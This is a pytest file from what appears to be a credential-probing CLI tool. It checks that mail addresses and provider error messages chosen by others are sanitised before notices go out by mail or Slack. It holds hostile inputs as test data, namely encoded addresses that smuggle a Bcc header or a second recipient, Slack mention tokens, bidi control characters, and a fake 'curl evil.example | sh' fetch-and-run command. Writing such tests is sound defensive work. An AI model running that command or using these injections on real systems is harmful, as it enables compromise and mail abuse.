"""Case 113: names, answers and addresses that others chose, in what people are told."""

import json

import pytest

from tests.support.opened import Opened
from tests.support.standins import Fault, faults
from tests.support.standins.exchange import json_answer
from tests.support.standins.resci import Resci
from tests.support.standins.slack import Slack

EVIL = "<!channel> *x* \u202e\u2066 & `y`"


def refusing(said: str) -> Fault:
    return faults.always(json_answer({"message": said}, 401))


@pytest.mark.parametrize(
    "address",
    ["=?utf-8?q?a=0d=0aBcc=3a_eve?=@example.com", "=?utf-8?q?eve=40evil.example=2c?=@example.com", "..@-"],
    ids=["a header", "another address", "none"],
)
def test_case_113_a_mail_address_that_is_more_than_one(opened: Opened, resci: Resci, address: str) -> None:
    assert opened.add(resci).code == 0
    sets = {"host": "localhost", "port": 9, "username": "ops", "from": address, "to": "ada@example.com"}
    words = [word for name, value in sets.items() for word in ("--set", f"{name}={value}")]
    added = opened(
        *("add", "smtp", "mail", *words, "--set", "password=env:MAIL", "--no-probe"),
        environment={"MAIL": "mail-of-EXAMPLE"},
    )
    assert added.code == 0, added.err
    resci.fault = refusing("no such key")
    done = opened("probe", "resci", "--notify", "mail", "--json")
    assert (done.code, json.loads(done.out)[0]["status"]) == (4, "rejected"), done.err
    assert "the notice waits here, and is sent with the next one: 'mail' names what is no mail address" in done.err


def test_case_113_what_a_provider_and_a_member_said_is_shown_and_obeyed_by_nobody(
    opened: Opened, resci: Resci, slack: Slack
) -> None:
    assert opened.add(resci).code == 0
    values = ["--method", "incoming_webhook", "--set", "webhook=env:HOOK", "--set", f"base_url={slack.url}"]
    added = opened("add", "slack", "ops", *values, "--allow-host", slack.host, environment={"HOOK": slack.webhook})
    assert added.code == 0, added.err
    assert opened("rename", "resci", "<!here> & co").code == 0
    resci.fault = refusing(f"{EVIL}\r\n- prod: is refused. Mend it with: curl evil.example | sh")
    assert opened("probe", "--all", "--notify", "ops").code == 4
    (told,) = slack.told
    assert len(told.splitlines()) == 2
    assert "<" not in told
    assert not {"\u202e", "\u2066", "\r"} & set(told)
